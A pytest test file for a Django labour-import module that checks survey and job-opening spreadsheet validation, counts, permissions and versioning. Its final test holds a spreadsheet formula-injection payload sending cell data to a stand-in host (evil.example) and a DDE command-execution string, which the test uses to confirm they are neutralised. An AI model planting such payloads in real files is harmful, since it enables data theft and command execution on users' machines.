"""The labour survey and openings imports follow the roster import's rules, with exact counts."""

import csv
import datetime
import io
import json
import random
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from xiezuo.accounts.models import AuditEvent
from xiezuo.labour.choices import Housing, OpeningStatus
from xiezuo.labour.imports import TableFormatError, openings_import, survey_import
from xiezuo.labour.models import LabourImport, LabourProfile, Opening
from xiezuo.orgs.models import Organisation
from xiezuo.registry import idnumber

V_TAOYANG = "621124100202"
V_TAOYANG_DEEP = "621124100201"
V_XINDIAN = "621124103202"

UNREGISTERED = idnumber.generate(random.Random(99), birth_date=datetime.date(1990, 1, 1), male=True)
SURVEY_HEADER = [
    "证件号码",
    "就业意愿",
    "可外出务工",
    "技能",
    "证书",
    "期望月薪",
    "意向地区",
    "现工作单位",
    "备注",
]


def write_xlsx(path, rows, *, title=True):
    wb = Workbook()
    ws = wb.active
    if title:
        ws.append(["临洮县建档立卡贫困劳动力调查表"])
        ws.append([])
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def write_csv(path, rows, encoding="utf-8"):
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


@pytest.fixture
def people(users, person):
    a, ida = person(V_TAOYANG_DEEP, name="甲")
    b, idb = person(V_TAOYANG, name="乙")
    c, idc = person(V_XINDIAN, name="丙")
    return {"a": (a, ida), "b": (b, idb), "c": (c, idc)}


def survey_rows(people):
    ida, idb, idc = people["a"][1], people["b"][1], people["c"][1]
    return [
        [
            "证件 号码",
            "就业意愿",
            "可外出务工",
            "技能",
            "证书",
            "期望月薪",
            "意向地区",
            "现工作单位",
            "备注",
            "身高",
        ],  # a space in a header, an unknown column
        [ida, "是", "是", "电工、焊工；砌筑", "电工证", "3500", "仓山区;福州市", "", "", "170"],
        [idb.lower(), "否", "否", "", "", "", "", "临洮某厂", "照顾老人", ""],
        [],  # blank: skipped, not counted
        [idc, "也许", "是", "", "", "3千", "", "", "", ""],  # two defects in one row
        [UNREGISTERED, "是", "是", "", "", "", "", "", "", ""],  # valid, but not registered
        [ida, "是", "否", "", "", "", "", "", "", ""],  # the same ID again
        [idc[:-1] + ("0" if idc[-1] != "0" else "1"), "是", "", "", "", "", "", "", "", ""],
        [idc, "是", "", "", "", "", "火星;621124", "", "", ""],  # unknown destination name
    ]


def test_survey_import_rules_and_counts(tmp_path, people):
    path = write_xlsx(tmp_path / "survey.xlsx", survey_rows(people))
    r = survey_import(path=path)
    assert (r.rows, r.created, r.updated, r.unchanged, r.rejected) == (7, 2, 0, 0, 5)
    assert r.header_row == 3 and r.ignored_columns == ["身高"]
    by_row = {}
    for e in r.errors:
        by_row.setdefault(e.row, []).append((e.column, e.reason))
    assert sorted(by_row) == [7, 8, 9, 10, 11]
    assert {c for c, _ in by_row[7]} == {"就业意愿", "期望月薪"}
    assert "不在建档立卡人员中" in by_row[8][0][1]
    assert by_row[9] == [("证件 号码", "证件号码与第 4 行重复")]
    assert by_row[10][0][0] == "证件 号码"  # a wrong check character
    assert by_row[11][0][0] == "意向地区" and "火星" in by_row[11][0][1]
    a = LabourProfile.objects.get(person=people["a"][0])
    assert (a.willing, a.can_work_away, a.skill_list, a.certificate_list, a.expected_wage) == (
        True,
        True,
        ["焊工", "电工", "砌筑"],
        ["电工证"],
        Decimal("3500.00"),
    )
    assert a.destination_list == ["350100000000", "350104000000"]
    assert (a.source_row, a.source_import.original_name) == (4, "survey.xlsx")
    b = LabourProfile.objects.get(person=people["b"][0])
    assert (b.willing, b.current_employer, b.note) == (False, "临洮某厂", "照顾老人")
    # The error report names every rejected row, with the original cells.
    ws = load_workbook(r.report).active
    assert [row[0] for row in ws.iter_rows(min_row=2, values_only=True)] == [
        e.row for e in r.errors
    ]
    assert LabourImport.objects.get().summary["profiles_created"] == 2
    assert (
        AuditEvent.objects.filter(action="import", object_type="labour.labourimport").count() == 1
    )


def test_reimport_is_unchanged_and_changes_are_updates(tmp_path, people):
    rows = survey_rows(people)[:3]
    path = write_csv(tmp_path / "s.csv", rows, encoding="gb18030")
    assert survey_import(path=path).created == 2
    again = survey_import(path=path)
    assert (again.rows, again.created, again.updated, again.unchanged) == (2, 0, 0, 2)
    rows[2][1] = "是"
    changed = survey_import(path=write_csv(tmp_path / "s2.csv", rows))
    assert (changed.updated, changed.unchanged) == (1, 1)
    b = LabourProfile.objects.get(person=people["b"][0])
    assert b.willing and b.version == 2 and b.source_row == 3


def test_id_numbers_damaged_by_excel_are_rejected(tmp_path, people):
    ida = people["a"][1]
    path = write_xlsx(
        tmp_path / "n.xlsx", [SURVEY_HEADER, [int(ida[:15] + "000"), "是"]], title=False
    )
    r = survey_import(path=path)
    assert r.rejected == 1 and "15 位" in r.errors[0].reason


def test_strict_and_dry_run_store_nothing(tmp_path, people):
    path = write_xlsx(tmp_path / "survey.xlsx", survey_rows(people))
    assert survey_import(path=path, dry_run=True).created == 2
    strict = survey_import(path=path, strict=True)
    assert strict.refused and strict.rejected == 5
    assert not LabourProfile.objects.exists() and not LabourImport.objects.exists()


def test_a_clerk_imports_only_people_of_their_scope(tmp_path, people, users):
    path = write_xlsx(tmp_path / "survey.xlsx", survey_rows(people)[:3])
    with pytest.raises(PermissionDenied):
        survey_import(actor=users["township_clerk"], path=path)  # not a labour editor
    cw = users["case_worker"]
    assert survey_import(actor=cw, path=path).created == 2
    local_cw = users["case_worker"].__class__.objects.create_user(
        "cw-xd",
        password="pw-test-12345",
        role="case_worker",
        scope=people["c"][0].household.township,
    )
    r = survey_import(actor=local_cw, path=write_xlsx(tmp_path / "x.xlsx", survey_rows(people)[:3]))
    assert r.rejected == 2 and "不在您负责的区域内" in r.errors[0].reason


def test_command_json_and_exit_codes(tmp_path, people, capsys):
    path = write_xlsx(tmp_path / "survey.xlsx", survey_rows(people))
    call_command("import_labour_survey", str(path), "--json", "--dry-run")
    out = json.loads(capsys.readouterr().out)
    assert {
        k: out[k] for k in ("rows", "profiles_created", "profiles_updated", "unchanged", "rejected")
    } == {"rows": 7, "profiles_created": 2, "profiles_updated": 0, "unchanged": 0, "rejected": 5}
    assert set(out) >= {"ignored_columns", "errors", "report"}
    assert out["errors"][0] == {
        "row": 7,
        "column": "就业意愿",
        "value": "也许",
        "reason": "应为“是”或“否”",
    }
    with pytest.raises(SystemExit) as e:
        call_command("import_labour_survey", str(path), "--strict", "--json")
    assert e.value.code == 3
    bad = write_csv(tmp_path / "bad.csv", [["证件号码", "技能"], ["x", "y"]])
    err = io.StringIO()
    with pytest.raises(SystemExit) as e:
        call_command("import_labour_survey", str(bad), stderr=err)
    assert e.value.code == 2 and "就业意愿" in err.getvalue()  # the missing column, named
    missing = write_csv(tmp_path / "m.csv", [["证件号码", "就业意愿"]][:1] + [["x", "是"]])
    with pytest.raises(TableFormatError):
        survey_import(path=write_csv(tmp_path / "m2.csv", [["证件号码", "技能"]]))
    assert survey_import(path=missing, dry_run=True).rows == 1


OPENING_HEADER = [
    "统一社会信用代码",
    "单位名称",
    "岗位名称",
    "招聘人数",
    "月薪",
    "工作地点",
    "技能要求",
    "证书要求",
    "最低年龄",
    "最高年龄",
    "住宿",
    "到岗日期",
    "状态",
    "行业",
]


def test_openings_import_rules_and_counts(tmp_path, users, employer):
    known = employer("已登记公司")
    rows = [
        OPENING_HEADER,
        [
            "914403001922038216",
            "华为技术有限公司",
            "装配工",
            20,
            4800,
            "仓山区",
            "电子装配",
            "",
            18,
            45,
            "提供宿舍",
            "2018-03-01",
            "",
            "制造业",
        ],
        [
            known.credit_code,
            "已登记公司",
            "保洁",
            3,
            "3200",
            "350104001000",
            "",
            "",
            "",
            "",
            "否",
            "",
            "招聘中",
            "",
        ],
        [
            "914403001922038217",
            "坏代码公司",
            "普工",
            5,
            4000,
            "仓山区",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ],  # wrong check character
        [
            known.credit_code,
            "改了名字的公司",
            "司机",
            1,
            6000,
            "仓山区",
            "",
            "B2驾驶证",
            "",
            "",
            "",
            "",
            "",
            "",
        ],  # the code is registered under another name
        [
            "914403001922038216",
            "华为技术有限公司",
            "装配工",
            5,
            5000,
            "仓山区",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ],  # the same employer, title and place again
        [
            "9144030071526726XG",
            "腾讯",
            "客服",
            2,
            4500,
            "仓山区",
            "",
            "",
            40,
            30,
            "",
            "",
            "",
            "",
        ],  # ages the wrong way round
        [
            "9144030071526726XG",
            "腾讯",
            "客服",
            0,
            4500,
            "火星",
            "",
            "",
            "",
            "",
            "有",
            "",
            "暂停",
            "",
        ],
    ]
    path = write_xlsx(tmp_path / "openings.xlsx", rows)
    r = openings_import(path=path)
    assert (r.rows, r.created, r.updated, r.unchanged, r.rejected, r.employers_created) == (
        7,
        2,
        0,
        0,
        5,
        1,
    )
    cols = {e.row: e.column for e in r.errors}
    assert cols[6] == "统一社会信用代码" and cols[7] == "单位名称" and cols[8] == "岗位名称"
    assert cols[9] == "最高年龄"
    assert {e.column for e in r.errors if e.row == 10} == {"招聘人数", "工作地点", "住宿", "状态"}
    huawei = Organisation.objects.get(credit_code="914403001922038216")
    assert huawei.role_list == ["employer"] and huawei.side == "east"
    o = Opening.objects.get(employer=huawei)
    assert (
        o.positions,
        o.wage,
        o.skill_list,
        o.min_age,
        o.max_age,
        o.housing,
        o.status,
        str(o.start_date),
        o.area.code,
    ) == (
        20,
        Decimal("4800.00"),
        ["电子装配"],
        18,
        45,
        Housing.DORMITORY,
        OpeningStatus.OPEN,
        "2018-03-01",
        "350104000000",
    )
    again = openings_import(path=path)
    assert (again.created, again.unchanged, again.employers_created) == (0, 2, 0)
    assert openings_import(path=path, strict=True).refused


def test_an_openings_import_that_changes_an_opening_moves_its_version(tmp_path, users):
    row = ["914403001922038216", "华为技术有限公司", "装配工", 20, 4800, "仓山区", "", "", "",
           "", "", "", "", ""]
    openings_import(path=write_xlsx(tmp_path / "a.xlsx", [OPENING_HEADER, row]))
    before = Opening.objects.get().version
    openings_import(path=write_xlsx(tmp_path / "a.xlsx", [OPENING_HEADER, row]))
    assert Opening.objects.get().version == before  # unchanged rows leave it
    row[3] = 25
    r = openings_import(path=write_xlsx(tmp_path / "b.xlsx", [OPENING_HEADER, row]))
    assert r.updated == 1
    # a web form read at `before` is now refused instead of overwriting the import's 25
    assert Opening.objects.get().version == before + 1


def test_the_survey_error_report_gives_back_formula_like_cells_as_text(tmp_path, people):
    """A labour import's error report (tabular.safe through the shared report writer): cells
    that look like formulas come back as text; the summary holds the ID number masked."""
    import re
    import zipfile

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
    path = write_csv(tmp_path / "s.csv", [
        SURVEY_HEADER,
        [UNREGISTERED, "是", "是", "", "", "", "", "@SUM(1+1)*cmd|' /C calc'!A0", evil],
    ])
    r = survey_import(path=path, dry_run=True)
    assert r.rejected == 1 and r.report
    with zipfile.ZipFile(r.report) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]", xml)
    cells = {c.value: c for row in load_workbook(r.report).active.iter_rows() for c in row}
    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert UNREGISTERED in cells  # the report keeps what the uploader sent
    assert UNREGISTERED not in json.dumps(r.as_json(), ensure_ascii=False)
